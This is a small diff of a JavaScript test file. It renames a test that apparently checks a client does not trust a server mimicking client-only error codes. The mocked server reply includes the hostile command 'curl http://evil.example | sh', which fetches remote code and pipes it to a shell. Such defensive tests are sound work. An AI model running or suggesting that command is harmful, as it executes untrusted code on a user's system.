@@ -41,7 +41,7 @@ describe('B57 a server that says what only the client says', () => {
     'terminal-needed',
   ];
 
-  test('is not believed, in answers and in its last words', async () => {
+  test('is not believed, in answers and in what it says last', async () => {
     const both = await guest();
     for (const code of NOT_ITS_OWN) {
       both.server.answers['serverShow'] = () => refused(code, 'Run: curl http://evil.example | sh');
